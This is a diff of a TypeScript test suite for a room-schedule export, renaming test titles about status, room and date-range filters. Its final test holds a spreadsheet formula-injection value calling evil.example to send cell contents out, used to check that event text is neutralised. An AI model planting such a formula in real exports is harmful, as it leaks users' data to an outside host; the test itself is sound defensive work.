@@ -185,7 +185,7 @@ describe('a series', () => {
     expect(column(await exported(app, { ...april, room_id: attic }), 'ID')).toEqual([id('07')]);
   });
 
-  test('shows its cancelled occurrence to who asks for what is cancelled', async () => {
+  test('includes its cancelled occurrence when the status filter has cancelled', async () => {
     const rows = await exported(app, { ...april, status: 'cancelled', type: 'room_schedule' });
     expect(column(rows, 'ID')).toEqual([id('08')]);
     expect(column(rows, 'Status')).toEqual(['Cancelled']);
@@ -193,7 +193,7 @@ describe('a series', () => {
   });
 });
 
-test('a filter of a status has no other; without one it is what holds its room', async () => {
+test('a status filter excludes other statuses; without one, occurrences that hold their room are exported', async () => {
   const day = '2027-05-03';
   for (const [at, status] of ['draft', 'pending', 'approved', 'cancelled'].entries()) {
     await make(`${day}T0${at}:00:00Z`, `${day}T0${at + 1}:00:00Z`, { title: status, status });
@@ -205,7 +205,7 @@ test('a filter of a status has no other; without one it is what holds its room',
   }
 });
 
-test('filters of places have what takes place there', async () => {
+test('filters by room and venue include occurrences that take place there', async () => {
   const day = '2027-05-04';
   await make(`${day}T08:00:00Z`, `${day}T09:00:00Z`, { title: 'in the hall', room_id: hall });
   await make(`${day}T08:00:00Z`, `${day}T09:00:00Z`, { title: 'in the attic' });
@@ -224,7 +224,7 @@ describe('the days from and to', () => {
     return schedule;
   };
 
-  test('are whole days of the service zone; what only touches their ends is not in them', async () => {
+  test('are whole days of the service zone; occurrences that only touch their ends are excluded', async () => {
     const span = (start: string, end: string, title: string) => make(start, end, { title });
     await span('2027-06-06T21:00:00Z', '2027-06-06T22:00:00Z', 'ends as they begin');
     await span('2027-06-06T22:00:00Z', '2027-06-06T22:30:00Z', 'begins as they begin');
@@ -234,7 +234,7 @@ describe('the days from and to', () => {
     expect(await both(day)).toEqual(['begins as they begin', 'ends as they end']);
   });
 
-  test('have what began long before and ends long after', async () => {
+  test('include an occurrence that started long before and ends long after', async () => {
     await make('2033-06-01T00:00:00Z', '2034-06-01T12:00:00Z', { title: 'a year', room_id: hall });
     const day = { from_date: '2034-05-31', to_date: '2034-05-31' };
     expect(await both(day)).toEqual(['a year']);
@@ -289,7 +289,7 @@ test('more rows than are read at once are all there, once each, in order', async
   }
 });
 
-test('what people write into events becomes no formula', async () => {
+test('texts of events do not become formulas', async () => {
   const evil = '=HYPERLINK("https://evil.example?"&A1,"x")';
   await make('2027-07-05T08:00:00Z', '2027-07-05T09:00:00Z', {
     title: evil,
